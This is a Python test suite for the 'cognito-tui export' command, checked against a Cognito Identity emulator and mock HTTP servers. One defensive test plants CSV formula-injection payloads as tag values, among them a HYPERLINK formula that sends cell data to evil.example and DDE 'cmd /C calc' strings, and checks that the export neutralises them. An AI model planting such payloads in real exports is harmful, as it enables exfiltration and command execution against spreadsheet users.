"""`cognito-tui export` against the emulator: every export in JSON and CSV,
checked against what the emulator holds; pool-backup replayed through `call`;
-o atomicity; one connection for all pages; the progress line."""
import csv
import datetime
import http.server
import io
import json
import os
import pty
import shutil
import signal
import subprocess
import tempfile
import threading
import time
import unittest

from clitools import ACCOUNT, BIN, REGION, EmulatorCase, all_pages, harness, one_error_line

IDENTITIES = 130  # big-pool: three pages of 60


def iso(t):
    d = datetime.datetime.fromtimestamp(t, tz=datetime.timezone.utc)
    ms = round((t - int(t)) * 1000)
    base = d.strftime("%Y-%m-%dT%H:%M:%S")
    return f"{base}.{ms:03d}Z" if ms else base + "Z"


def record_injection(name, surface, values, result):
    """Keeps what an injection test tried and what came out, for the
    README's Reliability section (tests/reliability.py)."""
    build = os.environ.get("COGNITO_TUI_BUILD")
    if not build:
        return
    folder = os.path.join(build, "reliability")
    os.makedirs(folder, exist_ok=True)
    with open(os.path.join(folder, f"injection-{name}.json"), "w") as f:
        json.dump({"surface": surface, "values": sorted(set(values)), "result": result}, f, indent=1)


def defused(value):
    """A CSV cell as the export writes it: a leading ' before what a
    spreadsheet would take for a formula (OWASP's advice)."""
    return "'" + value if value[:1] and value[0] in "=+-@\t\r" else value


def parse_csv(text):
    rows = list(csv.reader(io.StringIO(text, newline="")))
    return rows[0], [dict(zip(rows[0], r)) for r in rows[1:]]


class ExportTest(EmulatorCase):
    IDENTITIES = IDENTITIES

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.big = cls.emu.pool_id("big-pool")
        cls.tmp = tempfile.mkdtemp(prefix="cognito-cli-export-")

    @classmethod
    def tearDownClass(cls):
        super().tearDownClass()
        shutil.rmtree(cls.tmp, ignore_errors=True)

    def export(self, *args, fmt="json"):
        r = self.cli.run("export", *args, "--format", fmt)
        self.assertEqual(r.rc, 0, r)
        self.assertEqual(r.err, "", r)  # stderr is a pipe: no progress line
        return r.json() if fmt == "json" else parse_csv(r.out)

    def pools(self):
        return all_pages(self.emu, "ListIdentityPools", {}, "IdentityPools")

    # -- pools ----------------------------------------------------------------
    def test_pools(self):
        want = [{"IdentityPoolId": p["IdentityPoolId"], "IdentityPoolName": p["IdentityPoolName"]} for p in self.pools()]
        self.assertGreaterEqual(len(want), 5)
        self.assertEqual(self.export("pools"), want)
        header, rows = self.export("pools", fmt="csv")
        self.assertEqual(header, ["IdentityPoolId", "IdentityPoolName"])
        self.assertEqual(rows, want)

    # -- identities -------------------------------------------------------------
    def expected_identities(self, pool):
        return [{"IdentityId": i["IdentityId"], "Logins": i.get("Logins", []),
                 "CreationDate": iso(i["CreationDate"]), "LastModifiedDate": iso(i["LastModifiedDate"])}
                for i in all_pages(self.emu, "ListIdentities", {"IdentityPoolId": pool}, "Identities")]

    def test_identities_json_one_connection(self):
        want = self.expected_identities(self.big)
        self.assertEqual(len(want), IDENTITIES)
        self.emu.reset_log()
        self.assertEqual(self.export("identities", "--pool", self.big), want)
        log = self.emu.requests()
        self.assertEqual([e["operation"] for e in log], ["ListIdentities"] * 3)
        self.assertEqual(len({e["connection_id"] for e in log}), 1, log)
        self.assertTrue(all(e["input"]["MaxResults"] == 60 for e in log))
        self.assertNotIn("NextToken", log[0]["input"])
        self.assertTrue(all(e["input"].get("NextToken") for e in log[1:]))

    def test_identities_csv(self):
        want = self.expected_identities(self.big)
        header, rows = self.export("identities", "--pool", self.big, fmt="csv")
        self.assertEqual(header, ["IdentityId", "Logins", "CreationDate", "LastModifiedDate"])
        self.assertEqual(rows, [dict(w, Logins=";".join(w["Logins"])) for w in want])
        self.assertTrue(any(r["Logins"] for r in rows))

    def test_identities_of_a_missing_pool(self):
        r = self.cli.run("export", "identities", "--pool", "us-east-1:00000000-0000-0000-0000-000000000000")
        one_error_line(self, r, 1, "ResourceNotFoundException")
        self.assertEqual(r.out, "")  # no lone "[" when the first call fails
        r = self.cli.run("export", "identities", "--format", "csv", "--pool",
                         "us-east-1:00000000-0000-0000-0000-000000000000")
        one_error_line(self, r, 1, "ResourceNotFoundException")
        self.assertEqual(r.out, "")

    # -- roles ----------------------------------------------------------------
    def expected_roles(self, pool):
        out = self.emu.ok("GetIdentityPoolRoles", {"IdentityPoolId": pool})
        rows = [{"IdentityPoolId": pool, "Kind": "role", "Key": k, "RoleARN": v} for k, v in out.get("Roles", {}).items()]
        for prov, m in out.get("RoleMappings", {}).items():
            row = {"IdentityPoolId": pool, "Kind": "mapping", "Key": prov, "MappingType": m["Type"]}
            if m.get("AmbiguousRoleResolution"):
                row["AmbiguousRoleResolution"] = m["AmbiguousRoleResolution"]
            rows.append(row)
            for rule in m.get("RulesConfiguration", {}).get("Rules", []):
                rows.append({"IdentityPoolId": pool, "Kind": "rule", "Key": prov, "RoleARN": rule["RoleARN"],
                             "Claim": rule["Claim"], "MatchType": rule["MatchType"], "Value": rule["Value"]})
        return rows

    def test_roles_of_one_pool(self):
        want = self.expected_roles(self.big)
        self.assertTrue({"role", "mapping", "rule"} <= {r["Kind"] for r in want}, want)
        self.assertEqual(self.export("roles", "--pool", self.big), want)

    def test_roles_of_every_pool_csv(self):
        want = [r for p in self.pools() for r in self.expected_roles(p["IdentityPoolId"])]
        header, rows = self.export("roles", fmt="csv")
        self.assertEqual(header[:4], ["IdentityPoolId", "Kind", "Key", "RoleARN"])
        self.assertEqual(rows, [{h: w.get(h, "") for h in header} for w in want])

    # -- tags -----------------------------------------------------------------
    def expected_tags(self, pool):
        arn = f"arn:aws:cognito-identity:{REGION}:{ACCOUNT}:identitypool/{pool}"
        tags = self.emu.ok("ListTagsForResource", {"ResourceArn": arn})["Tags"]
        return [{"IdentityPoolId": pool, "Key": k, "Value": v} for k, v in tags.items()]

    def test_tags_of_every_pool(self):
        want = [t for p in self.pools() for t in self.expected_tags(p["IdentityPoolId"])]
        self.assertGreater(len(want), 5)
        self.assertEqual(self.export("tags"), want)
        header, rows = self.export("tags", fmt="csv")
        self.assertEqual(header, ["IdentityPoolId", "Key", "Value"])
        # escape-tests values come back byte for byte
        self.assertEqual(rows, [{k: defused(v) for k, v in w.items()} for w in want])

    def test_csv_formulas_are_defused(self):
        """A tag value that a spreadsheet would run (=HYPERLINK, +, -, @, a
        leading TAB or CR) is written with a leading ' in CSV, as is in JSON."""
        tags = {"f-eq": '=HYPERLINK("http://evil.example/?"&A1,"click")', "f-plus": "+1+cmd|' /C calc'!A0",
                "f-minus": "-2+3", "f-at": "@SUM(1+1)*cmd|' /C calc'!A0", "f-tab": "\t=1", "f-cr": "\r=1",
                "f-inner": "a=b", "f-quote": "'=kept"}
        pool = self.emu.ok("CreateIdentityPool", {"IdentityPoolName": "formula-pool",
                                                  "AllowUnauthenticatedIdentities": False,
                                                  "IdentityPoolTags": tags})["IdentityPoolId"]
        try:
            header, rows = self.export("tags", "--pool", pool, fmt="csv")
            got = {r["Key"]: r["Value"] for r in rows}
            self.assertEqual(got["f-eq"], "'" + tags["f-eq"])
            self.assertEqual(got["f-plus"], "'" + tags["f-plus"])
            self.assertEqual(got["f-minus"], "'-2+3")
            self.assertEqual(got["f-at"], "'" + tags["f-at"])
            self.assertEqual(got["f-tab"], "'\t=1")
            self.assertEqual(got["f-cr"], "'\r=1")
            self.assertEqual(got["f-inner"], "a=b")
            self.assertEqual(got["f-quote"], "'=kept")
            rows = self.export("tags", "--pool", pool)
            self.assertEqual({r["Key"]: r["Value"] for r in rows}, tags)  # JSON is unchanged
            record_injection("csv-formulas", "export --format csv (tag values)", tags.values(),
                             "a leading ' before =, +, -, @, TAB, CR; JSON unchanged")
        finally:
            self.emu.ok("DeleteIdentityPool", {"IdentityPoolId": pool})

    def test_tags_account_id_order(self):
        """--account, else AWS_ACCOUNT_ID / aws_account_id / STS
        GetCallerIdentity, else (STS unreachable) the pool's role ARNs."""
        empty = self.emu.pool_id("empty-pool")
        # empty-pool names no IAM ARN: the account comes from the emulator's STS.
        r = self.cli.run("export", "tags", "--pool", empty)
        self.assertEqual(r.rc, 0, r.err)
        self.assertEqual(json.loads(r.out), self.expected_tags(empty))
        # A malformed setting is a configuration error, not a guess.
        r = self.cli.run("export", "tags", "--pool", empty, extra={"AWS_ACCOUNT_ID": "12345"})
        one_error_line(self, r, 5, "AWS_ACCOUNT_ID")
        # STS unreachable: a pool with roles gives its account; one without asks.
        no_sts = {"AWS_ENDPOINT_URL_STS": "http://127.0.0.1:9"}
        r = self.cli.run("export", "tags", "--pool", self.big, extra=no_sts)
        self.assertEqual(r.rc, 0, r.err)
        self.assertEqual(json.loads(r.out), self.expected_tags(self.big))
        r = self.cli.run("export", "tags", "--pool", empty, extra=no_sts)
        one_error_line(self, r, 2, "--account")
        self.assertEqual(self.export("tags", "--pool", empty, "--account", ACCOUNT), self.expected_tags(empty))
        r = self.cli.run("export", "tags", "--pool", self.big, "--account", "210987654321")
        one_error_line(self, r, 1)  # the service refuses an ARN that is not the pool's

    # -- pool-backup ------------------------------------------------------------
    def test_pool_backup_replays_to_an_equal_pool(self):
        # big-pool: login and user-pool providers, both mapping types, a principal
        # tag map, tags; mobile-app: rules; partner-portal: SAML and OIDC ARNs.
        # (escape-tests holds names the model forbids: it cannot be recreated.)
        for name in ("big-pool", "mobile-app", "partner-portal"):
            with self.subTest(pool=name):
                self.replay_and_compare(self.emu.pool_id(name))

    def replay_and_compare(self, pool):
        backup = self.export("pool-backup", "--pool", pool)
        src = self.emu.ok("DescribeIdentityPool", {"IdentityPoolId": pool})
        self.assertEqual(backup["SourceIdentityPoolId"], pool)
        # Replay as the help text says: create, then every step with the new id.
        new = self.cli.ok("CreateIdentityPool", json.dumps(backup["CreateIdentityPool"]))
        nid = new["IdentityPoolId"]
        try:
            step = dict(backup["SetIdentityPoolRoles"], IdentityPoolId=nid)
            self.cli.ok("SetIdentityPoolRoles", "-", stdin=json.dumps(step).encode())
            for m in backup["SetPrincipalTagAttributeMap"]:
                self.cli.ok("SetPrincipalTagAttributeMap", json.dumps(dict(m, IdentityPoolId=nid)))
            dst = self.emu.ok("DescribeIdentityPool", {"IdentityPoolId": nid})
            self.assertEqual({k: v for k, v in dst.items() if k != "IdentityPoolId"},
                             {k: v for k, v in src.items() if k != "IdentityPoolId"})
            r_src = self.emu.ok("GetIdentityPoolRoles", {"IdentityPoolId": pool})
            r_dst = self.emu.ok("GetIdentityPoolRoles", {"IdentityPoolId": nid})
            self.assertEqual(r_dst.get("Roles"), r_src.get("Roles"))
            self.assertEqual(r_dst.get("RoleMappings"), r_src.get("RoleMappings"))
            providers = list(src.get("SupportedLoginProviders", {})) + \
                [c["ProviderName"] for c in src.get("CognitoIdentityProviders", [])] + \
                src.get("OpenIdConnectProviderARNs", []) + src.get("SamlProviderARNs", [])
            maps = 0
            for prov in providers:
                a = self.emu.ok("GetPrincipalTagAttributeMap", {"IdentityPoolId": pool, "IdentityProviderName": prov})
                b = self.emu.ok("GetPrincipalTagAttributeMap", {"IdentityPoolId": nid, "IdentityProviderName": prov})
                self.assertEqual((a["UseDefaults"], a["PrincipalTags"]), (b["UseDefaults"], b["PrincipalTags"]), prov)
                maps += bool(a["UseDefaults"] or a["PrincipalTags"])
            self.assertEqual(len(backup["SetPrincipalTagAttributeMap"]), maps)
        finally:
            self.emu.ok("DeleteIdentityPool", {"IdentityPoolId": nid})

    @unittest.skipUnless(shutil.which("jq"), "jq is not installed")
    def test_replay_steps_of_the_help_work(self):
        """The replay recipe printed by --help, run as it is, recreates the pool."""
        help_text = self.cli.run("--help").out
        lines = help_text.split("Replaying a pool-backup", 1)[1].split("\n")[1:]
        script = "\n".join(line[2:] for line in lines[:lines.index(next(x for x in lines if "Tags travel" in x))])
        folder = tempfile.mkdtemp(dir=self.tmp)
        with open(os.path.join(folder, "B.json"), "w") as f:
            f.write(self.cli.run("export", "pool-backup", "--pool", self.big).out)
        before = {p["IdentityPoolId"] for p in self.pools()}
        env = self.cli.env()
        env["PATH"] = os.path.dirname(BIN) + os.pathsep + env.get("PATH", "/usr/bin:/bin")
        p = subprocess.run(["bash", "-e", "-o", "pipefail", "-c", script], cwd=folder, env=env,
                           capture_output=True, text=True, timeout=120)
        self.assertEqual(p.returncode, 0, p.stderr)
        created = [x for x in self.pools() if x["IdentityPoolId"] not in before]
        self.assertEqual(len(created), 1, created)
        nid = created[0]["IdentityPoolId"]
        try:
            src = self.emu.ok("DescribeIdentityPool", {"IdentityPoolId": self.big})
            dst = self.emu.ok("DescribeIdentityPool", {"IdentityPoolId": nid})
            self.assertEqual(dict(dst, IdentityPoolId=None), dict(src, IdentityPoolId=None))
            for op in ("GetIdentityPoolRoles",):
                a = self.emu.ok(op, {"IdentityPoolId": self.big})
                b = self.emu.ok(op, {"IdentityPoolId": nid})
                self.assertEqual(dict(a, IdentityPoolId=None), dict(b, IdentityPoolId=None))
            prov = "cognito-idp.us-east-1.amazonaws.com/us-east-1_DemoPool1"
            a = self.emu.ok("GetPrincipalTagAttributeMap", {"IdentityPoolId": self.big, "IdentityProviderName": prov})
            b = self.emu.ok("GetPrincipalTagAttributeMap", {"IdentityPoolId": nid, "IdentityProviderName": prov})
            self.assertTrue(a["PrincipalTags"])
            self.assertEqual(a["PrincipalTags"], b["PrincipalTags"])
        finally:
            self.emu.ok("DeleteIdentityPool", {"IdentityPoolId": nid})

    def test_exports_are_reads_only(self):
        """Every export works for an auditor: read-only mode and the read-only key."""
        for args in (["pools"], ["identities", "--pool", self.big], ["roles"], ["tags"],
                     ["pool-backup", "--pool", self.big]):
            full = self.cli.run("export", *args)
            ro = self.cli.run("export", *args, "--read-only", read_only_key=True)
            self.assertEqual((ro.rc, ro.err), (0, ""), ro)
            self.assertEqual(ro.json(), full.json())

    def test_pool_backup_is_json_only(self):
        r = self.cli.run("export", "pool-backup", "--pool", self.big, "--format", "csv")
        one_error_line(self, r, 2, "JSON")

    # -- -o FILE ----------------------------------------------------------------
    def test_output_file_is_replaced_whole(self):
        folder = tempfile.mkdtemp(dir=self.tmp)
        path = os.path.join(folder, "ids.csv")
        with open(path, "w") as f:
            f.write("old contents\n")
        r = self.cli.run("export", "identities", "--pool", self.big, "--format", "csv", "-o", path)
        self.assertEqual((r.rc, r.out), (0, ""), r)
        with open(path, newline="") as f:
            header, rows = parse_csv(f.read())
        self.assertEqual(len(rows), IDENTITIES)
        self.assertEqual(os.listdir(folder), ["ids.csv"])  # no temporary file left

    def test_failed_export_leaves_the_old_file(self):
        folder = tempfile.mkdtemp(dir=self.tmp)
        path = os.path.join(folder, "keep.json")
        with open(path, "w") as f:
            f.write("precious\n")
        # Page 1 goes through (a 1 ms delay spends the first rule), page 2
        # fails: by then rows were already written to the temporary file.
        self.emu.set_faults("delay:1*1/ListIdentities,error:NotAuthorizedException*5/ListIdentities")
        r = self.cli.run("export", "identities", "--pool", self.big, "-o", path)
        one_error_line(self, r, 1, "NotAuthorizedException")
        self.assertEqual(len(self.emu.requests()), 2)
        with open(path) as f:
            self.assertEqual(f.read(), "precious\n")
        self.assertEqual(os.listdir(folder), ["keep.json"])  # the temporary file is gone

    def test_interrupted_export_leaves_no_temporary_file(self):
        folder = tempfile.mkdtemp(dir=self.tmp)
        path = os.path.join(folder, "ids.json")
        with open(path, "w") as f:
            f.write("before\n")
        self.emu.set_faults("delay:1*1/ListIdentities,delay:3000*1/ListIdentities")
        p = subprocess.Popen([BIN, "export", "identities", "--pool", self.big, "-o", path], env=self.cli.env(),
                             stdout=subprocess.PIPE, stderr=subprocess.PIPE)
        for _ in range(200):  # until page 1 is answered (the log records after the delay)
            if self.emu.requests():
                break
            time.sleep(0.05)
        time.sleep(0.3)  # page 2 is now held back by the 3 s delay
        # The target, and a named temporary file only where O_TMPFILE is missing.
        try:
            os.close(os.open(folder, os.O_TMPFILE | os.O_WRONLY, 0o600))
            unnamed = True
        except OSError:
            unnamed = False
        self.assertEqual(len(os.listdir(folder)), 1 if unnamed else 2)
        p.send_signal(signal.SIGINT)
        p.communicate(timeout=30)
        self.assertEqual(p.returncode, -signal.SIGINT)
        self.assertEqual(os.listdir(folder), ["ids.json"])
        with open(path) as f:
            self.assertEqual(f.read(), "before\n")

    def test_output_into_a_missing_folder(self):
        r = self.cli.run("export", "pools", "-o", "/nonexistent-folder/x.json")
        one_error_line(self, r, 2, "/nonexistent-folder/x.json")

    # -- terminals --------------------------------------------------------------
    def run_on_pty(self, *args, pty_stream="stderr"):
        """Runs the binary with stdout or stderr on a pseudo-terminal; returns (rc, out, pty text)."""
        master, slave = pty.openpty()
        kw = {"stdout": subprocess.PIPE, "stderr": subprocess.PIPE}
        kw[pty_stream] = slave
        p = subprocess.Popen([BIN] + list(args), env=self.cli.env(), **kw)
        os.close(slave)
        chunks = []
        while True:
            try:
                data = os.read(master, 65536)
            except OSError:
                break
            if not data:
                break
            chunks.append(data)
        pipe = p.stdout if pty_stream == "stderr" else p.stderr
        other = pipe.read()
        pipe.close()
        p.wait(timeout=60)
        os.close(master)
        return p.returncode, other, b"".join(chunks)

    def test_progress_line_only_on_a_terminal(self):
        rc, out, tty = self.run_on_pty("export", "identities", "--pool", self.big)
        self.assertEqual(rc, 0)
        self.assertEqual(len(json.loads(out)), IDENTITIES)
        self.assertIn(b"identities: page 3, 130 rows", tty)

    def test_no_progress_line_between_rows_on_a_terminal(self):
        master, slave = pty.openpty()
        p = subprocess.Popen([BIN, "export", "identities", "--pool", self.big], env=self.cli.env(),
                             stdout=slave, stderr=slave)
        os.close(slave)
        chunks = []
        while True:
            try:
                data = os.read(master, 65536)
            except OSError:
                break
            if not data:
                break
            chunks.append(data)
        p.wait(timeout=60)
        os.close(master)
        text = b"".join(chunks)
        self.assertEqual(p.returncode, 0)
        self.assertNotIn(b"page", text)
        self.assertEqual(text.count(b'"IdentityId"'), IDENTITIES)

    def test_csv_on_a_terminal_is_escaped(self):
        esc = self.emu.pool_id("escape-tests")
        rc, err, tty = self.run_on_pty("export", "tags", "--pool", esc, "--format", "csv", pty_stream="stdout")
        self.assertEqual(rc, 0, err)
        self.assertNotIn(b"\x1b", tty)
        self.assertNotIn("\u202e".encode(), tty)
        self.assertIn(b"\\x1b", tty)
        rc, err, tty = self.run_on_pty("export", "tags", "--pool", esc, pty_stream="stdout")
        self.assertEqual(rc, 0, err)
        self.assertNotIn(b"\x1b", tty)
        self.assertNotIn("\u202e".encode(), tty)
        values = [v for t in self.expected_tags(esc) for v in (t["Key"], t["Value"])
                  if any(not (" " <= c <= "~") for c in v)]
        record_injection("terminal", "export to a terminal, CSV and JSON (tag keys and values)", values,
                         "no ESC or bidi override reached the terminal; shown escaped (\\x1b, \\u202e)")


class RepeatedTokenServer(http.server.BaseHTTPRequestHandler):
    """A service whose NextTokens come from `tokens` in turn, forever."""
    protocol_version = "HTTP/1.1"
    pages = 0
    tokens = ["always-the-same"]

    def do_POST(self):
        self.rfile.read(int(self.headers.get("Content-Length", "0")))
        cls = type(self)
        cls.pages += 1
        n = cls.pages
        body = json.dumps({"IdentityPools": [{"IdentityPoolId": f"us-east-1:{n:08x}-0000-0000-0000-000000000000",
                                              "IdentityPoolName": f"p{n}"}],
                           "NextToken": cls.tokens[(n - 1) % len(cls.tokens)]}).encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/x-amz-json-1.1")
        self.send_header("x-amzn-RequestId", f"req-{n}")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args):
        pass


class RepeatedTokenTest(unittest.TestCase):
    def export(self, tokens, *args):
        RepeatedTokenServer.pages, RepeatedTokenServer.tokens = 0, tokens
        server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), RepeatedTokenServer)
        threading.Thread(target=server.serve_forever, daemon=True).start()
        try:
            env = dict(os.environ, AWS_ACCESS_KEY_ID=harness.FULL_KEY[0], AWS_SECRET_ACCESS_KEY=harness.FULL_KEY[1],
                       AWS_REGION=REGION, AWS_CONFIG_FILE="/nonexistent/cognito-tui-tests/config",
                       AWS_SHARED_CREDENTIALS_FILE="/nonexistent/cognito-tui-tests/credentials",
                       XDG_STATE_HOME="/nonexistent/cognito-tui-tests/state")  # a read journals nothing
            return subprocess.run([BIN, "export", "pools", "--endpoint-url", f"http://127.0.0.1:{server.server_port}",
                                   *args], env=env, capture_output=True, timeout=60)
        finally:
            server.shutdown()
            server.server_close()

    def test_a_repeated_token_ends_the_walk_with_an_error(self):
        p = self.export(["always-the-same"])
        # Page 1 gives the token, page 2 gives it again: the walk stops there, as an error.
        self.assertEqual(RepeatedTokenServer.pages, 2)
        self.assertEqual(p.returncode, 1, p.stderr)
        self.assertIn(b"ListIdentityPools: page 2 gave a NextToken an earlier page", p.stderr)
        self.assertEqual(len(p.stderr.splitlines()), 1, p.stderr)

    def test_alternating_tokens_end_the_walk(self):
        """A, B, A: the third token was seen two pages back. Before the rule
        covered the whole walk, this export never ended."""
        folder = tempfile.mkdtemp(prefix="cognito-cli-export-")
        try:
            path = os.path.join(folder, "pools.json")
            with open(path, "w") as f:
                f.write("old\n")
            p = self.export(["A", "B", "C", "B"], "-o", path)
            self.assertEqual(RepeatedTokenServer.pages, 4)
            self.assertEqual(p.returncode, 1, p.stderr)
            self.assertIn(b"page 4 gave a NextToken", p.stderr)
            with open(path) as f:
                self.assertEqual(f.read(), "old\n")  # an export that failed replaces nothing
            self.assertEqual(os.listdir(folder), ["pools.json"])
        finally:
            shutil.rmtree(folder, ignore_errors=True)


class CannedServer(http.server.BaseHTTPRequestHandler):
    """A service that answers every call with the next of `bodies` (the last
    one again when they run out)."""
    protocol_version = "HTTP/1.1"
    bodies = [b"{}"]
    calls = 0

    def do_POST(self):
        self.rfile.read(int(self.headers.get("Content-Length", "0")))
        cls = type(self)
        body = cls.bodies[min(cls.calls, len(cls.bodies) - 1)]
        cls.calls += 1
        self.send_response(200)
        self.send_header("Content-Type", "application/x-amz-json-1.1")
        self.send_header("x-amzn-RequestId", f"req-{cls.calls}")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args):
        pass


POOL = "us-east-1:00000000-0000-0000-0000-000000000001"


class OddAnswersTest(unittest.TestCase):
    """Answers no real service sends but a broken proxy or a bug could: the
    export survives any JSON value where a string, list or object belongs."""

    def run_export(self, bodies, *args):
        CannedServer.bodies, CannedServer.calls = bodies, 0
        server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), CannedServer)
        threading.Thread(target=server.serve_forever, daemon=True).start()
        try:
            env = dict(os.environ, AWS_ACCESS_KEY_ID=harness.FULL_KEY[0], AWS_SECRET_ACCESS_KEY=harness.FULL_KEY[1],
                       AWS_REGION=REGION, AWS_CONFIG_FILE="/nonexistent/cognito-tui-tests/config",
                       AWS_SHARED_CREDENTIALS_FILE="/nonexistent/cognito-tui-tests/credentials",
                       XDG_STATE_HOME="/nonexistent/cognito-tui-tests/state")
            return subprocess.run([BIN, "--endpoint-url", f"http://127.0.0.1:{server.server_port}", "export", *args],
                                  env=env, capture_output=True, timeout=60)
        finally:
            server.shutdown()
            server.server_close()

    def test_null_inside_logins(self):
        """The red team's crash: a null inside an identity's Logins killed the
        CSV export and left its temporary file behind."""
        body = json.dumps({"IdentityPoolId": POOL, "Identities": [
            {"IdentityId": "us-east-1:i1", "Logins": ["graph.facebook.com", None, 7], "CreationDate": 1.5},
            {"IdentityId": "us-east-1:i2", "Logins": None}]}).encode()
        folder = tempfile.mkdtemp(prefix="cognito-cli-export-")
        try:
            path = os.path.join(folder, "ids.csv")
            p = self.run_export([body], "identities", "--pool", POOL, "--format", "csv", "-o", path)
            self.assertEqual(p.returncode, 0, p.stderr)
            self.assertEqual(os.listdir(folder), ["ids.csv"])
            with open(path, newline="") as f:
                header, rows = parse_csv(f.read())
            self.assertEqual([r["Logins"] for r in rows], ["graph.facebook.com;7", ""])
            self.assertEqual(rows[0]["CreationDate"], "1970-01-01T00:00:01.500Z")
        finally:
            shutil.rmtree(folder, ignore_errors=True)

    def test_wrong_types_everywhere(self):
        # The zoo of values at every place is tests/unit/test_tui_export.c's; here, a
        # few through the real binary and parser.
        odd = [None, 3, [None]]
        for kind, args, body in (
                ("pools", [], lambda v: {"IdentityPools": [{"IdentityPoolId": v, "IdentityPoolName": v}, v]}),
                ("identities", ["--pool", POOL],
                 lambda v: {"Identities": [{"IdentityId": v, "Logins": v, "CreationDate": v}]}),
                ("roles", ["--pool", POOL],
                 lambda v: {"Roles": {"authenticated": v}, "RoleMappings": {"p": v, "q": {"Type": v,
                            "RulesConfiguration": {"Rules": [v, {"Claim": v}]}}}}),
                ("tags", ["--pool", POOL, "--account", "123456789012"], lambda v: {"Tags": {"k": v}})):
            for v in odd:
                for fmt in ("json", "csv") if kind == "identities" else ("csv",):
                    with self.subTest(kind=kind, value=v, fmt=fmt):
                        p = self.run_export([json.dumps(body(v)).encode()], kind, *args, "--format", fmt)
                        # Rows, or (nested deeper than the model allows) one clear error line.
                        if p.returncode == 0:
                            if fmt == "json":
                                self.assertIsInstance(json.loads(p.stdout), list)
                        else:
                            self.assertEqual(p.returncode, 1, p.stderr)
                            self.assertEqual(len(p.stderr.splitlines()), 1, p.stderr)
                            self.assertIn(b"nested deeper than the model allows", p.stderr)


class FutureServer(http.server.BaseHTTPRequestHandler):
    """A service whose clock says 2035: every signed call is "expired"."""
    protocol_version = "HTTP/1.1"
    signed_at = []

    def do_POST(self):
        self.rfile.read(int(self.headers.get("Content-Length", "0")))
        type(self).signed_at.append(self.headers.get("X-Amz-Date"))
        body = b'{"__type": "InvalidSignatureException", "message": "Signature expired"}'
        self.send_response(400)
        self.send_header("Date", "Mon, 01 Jan 2035 00:00:00 GMT")
        self.send_header("Content-Type", "application/x-amz-json-1.1")
        self.send_header("x-amzn-RequestId", "req-future")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args):
        pass


class ClockTest(unittest.TestCase):
    def test_a_server_in_2035_gets_at_most_a_day_of_correction(self):
        FutureServer.signed_at = []
        server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), FutureServer)
        threading.Thread(target=server.serve_forever, daemon=True).start()
        try:
            env = dict(os.environ, AWS_ACCESS_KEY_ID=harness.FULL_KEY[0], AWS_SECRET_ACCESS_KEY=harness.FULL_KEY[1],
                       AWS_REGION=REGION, AWS_CONFIG_FILE="/nonexistent/cognito-tui-tests/config",
                       AWS_SHARED_CREDENTIALS_FILE="/nonexistent/cognito-tui-tests/credentials",
                       XDG_STATE_HOME="/nonexistent/cognito-tui-tests/state")
            p = subprocess.run([BIN, "--endpoint-url", f"http://127.0.0.1:{server.server_port}", "export", "pools"],
                               env=env, capture_output=True, timeout=60)
        finally:
            server.shutdown()
            server.server_close()
        self.assertEqual(p.returncode, 1, p.stderr)
        self.assertIn(b"InvalidSignatureException", p.stderr)
        self.assertIn(b"cognito-tui: Warning: this machine's clock is", p.stderr)
        self.assertIn(b"more than the 24 h the client corrects", p.stderr)
        stamps = [datetime.datetime.strptime(s, "%Y%m%dT%H%M%SZ").replace(tzinfo=datetime.timezone.utc)
                  for s in FutureServer.signed_at]
        now = datetime.datetime.now(datetime.timezone.utc)
        self.assertEqual(len(stamps), 2, FutureServer.signed_at)  # one retry at the corrected time
        self.assertLess(abs((stamps[0] - now).total_seconds()), 120)
        self.assertLess((stamps[1] - now).total_seconds(), 86400 + 120)  # not 2035
        self.assertGreater((stamps[1] - now).total_seconds(), 86400 - 120)


if __name__ == "__main__":
    unittest.main()
